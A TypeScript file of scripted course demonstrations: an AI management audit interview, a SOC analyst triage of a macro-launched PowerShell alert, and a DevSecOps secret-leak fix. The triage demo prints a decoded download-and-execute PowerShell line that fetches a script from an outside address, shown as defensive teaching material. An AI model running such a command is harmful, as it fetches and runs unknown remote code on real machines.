/** A moment of a course in steps: words or a screen, with a comment. */
export type Demonstration = {
  /** Names the dialog and the place on the page of all demonstrations. */
  id: string;
  title: string;
  lead: string;
  courseSlug: string;
  steps: readonly { lines: readonly string[]; caption: string }[];
};

export type WatchableDemo = Pick<Demonstration, 'id' | 'title'>;

const audit: Demonstration = {
  id: 'audit-interview',
  title: 'A quest moment: audit interview',
  lead: 'One interview from an audit of an AI management system, from the first question to the finding. The organisation is made up.',
  courseSlug: 'ai-management-systems-lead-auditor',
  steps: [
    {
      lines: [
        'AUDITOR  How do you decide that an AI system needs an impact assessment?',
        'MANAGER  Every system does, before it goes live. It is in our procedure.',
      ],
      caption: 'An open question first. The answer states a rule, so the next thing to ask for is evidence of it.',
    },
    {
      lines: [
        'AUDITOR  May I pick three systems from your register?',
        'MANAGER  Please do.',
        'REGISTER  AI-04 claims triage     live since March',
        'REGISTER  AI-09 call summaries    live since May',
        'REGISTER  AI-11 fraud scoring     live since June',
      ],
      caption: 'The auditor draws the sample, not the auditee. Three of eleven systems, all of them in use.',
    },
    {
      lines: [
        'RECORD  AI-04 impact assessment   approved in February',
        'RECORD  AI-09 impact assessment   approved in July',
        'RECORD  AI-11 impact assessment   approved in May',
      ],
      caption: 'Two were approved before they went live. AI-09 was in use for two months before its approval.',
    },
    {
      lines: [
        'AUDITOR  AI-09 went live in May and was approved in July. What happened there?',
        'MANAGER  It began as a trial. Nobody told us that it had become permanent.',
        'AUDITOR  Does the procedure treat trials differently?',
        'MANAGER  No, it does not mention them.',
      ],
      caption:
        'No accusation: facts, then a question. The answer points to a cause, a trial that nobody was told about.',
    },
    {
      lines: [
        'FINDING      nonconformity, minor',
        'REQUIREMENT  own procedure: assessed before going live',
        'EVIDENCE     AI-09: live in May, approved in July',
        'EXTENT       one of three sampled',
      ],
      caption: 'The finding is complete: what was required, what was seen, and how far the sample reaches.',
    },
  ],
};

const triage: Demonstration = {
  id: 'triage',
  title: 'A quest moment: triage',
  lead: 'One alert from a lab of the SOC Analyst course, from the first look to the handover. Names and addresses are made up.',
  courseSlug: 'soc-analyst-hands-on',
  steps: [
    {
      lines: [
        'ALERT 4127  severity medium  09:14:22',
        'powershell.exe started by winword.exe',
        'host FIN-LT-031   user d.okeefe',
      ],
      caption: 'An alert: Word has started PowerShell on a laptop in finance. Documents rarely need to do that.',
    },
    {
      lines: [
        '$ timeline --host FIN-LT-031 --around 09:14',
        '09:13:58  outlook.exe   saved invoice_0914.docm',
        '09:14:20  winword.exe   opened invoice_0914.docm',
        '09:14:22  powershell.exe -enc SQBFAFgA...',
      ],
      caption: 'The minute before: a document with macros came by email and was opened. The command is encoded.',
    },
    {
      lines: ['$ decode SQBFAFgA...', 'IEX (New-Object Net.WebClient)', '  .DownloadString("http://203.0.113.44/u")'],
      caption: 'Decoded, it fetches a script from an address and runs it. That is no false positive.',
    },
    {
      lines: [
        '$ connections --to 203.0.113.44',
        'FIN-LT-031   09:14:23   1.2 kB in',
        'FIN-LT-007   09:02:51   1.2 kB in',
      ],
      caption: 'Who else spoke to that address? A second laptop, twelve minutes earlier, without an alert.',
    },
    {
      lines: [
        '$ isolate FIN-LT-031 FIN-LT-007',
        '2 hosts isolated',
        '$ escalate 4127 --severity high --note triage.md',
        'handed to incident response  09:21:40',
      ],
      caption:
        'Both are cut off the network, and the case is handed on with its evidence: seven minutes from alert to response.',
    },
  ],
};

const pipeline: Demonstration = {
  id: 'pipeline-finding',
  title: 'A quest moment: pipeline finding',
  lead: 'One finding in a delivery pipeline, from the stopped build to the check that stays. Names and keys are made up.',
  courseSlug: 'devsecops-engineering',
  steps: [
    {
      lines: [
        'pipeline 2208  branch feature/refunds',
        'secret-scan    FAILED   1 finding',
        'config/test.env:7   private key of a payment account',
      ],
      caption: 'The build stops before anything is deployed: a key lies in a file of the change.',
    },
    {
      lines: [
        '$ git log --oneline -- config/test.env',
        '4be91c2 Add refund tests',
        '$ git branch --remotes --contains 4be91c2',
        '  origin/feature/refunds',
      ],
      caption:
        'It came with one commit and has been pushed. Anyone with access to the repository may have read the key.',
    },
    {
      lines: [
        '$ payments keys revoke test-key-3',
        'revoked',
        '$ payments keys log test-key-3 --since 4be91c2',
        'no use',
      ],
      caption: 'Revoke first, tidy later. Deleting the line would leave the key in the history, and valid.',
    },
    {
      lines: [
        '- PAYMENT_KEY=-----BEGIN PRIVATE KEY----- ...',
        '+ # PAYMENT_KEY comes from the secret store',
        'pipeline 2209   secret-scan  passed',
      ],
      caption: 'The new key is in the secret store, and the tests get it when they run.',
    },
    {
      lines: [
        '$ cat .pre-commit-config.yaml',
        'repos:',
        '  - repo: https://github.com/gitleaks/gitleaks',
        '    hooks: [{ id: gitleaks }]',
      ],
      caption:
        'The same check now runs before a commit, where a finding costs seconds and the key never leaves the laptop.',
    },
  ],
};

export const demonstrations: readonly Demonstration[] = [audit, triage, pipeline];

/** The demonstration from a course, or else the one about the alert. */
export function demonstrationOf(courseSlug: string): Demonstration {
  return demonstrations.find((demonstration) => demonstration.courseSlug === courseSlug) ?? triage;
}
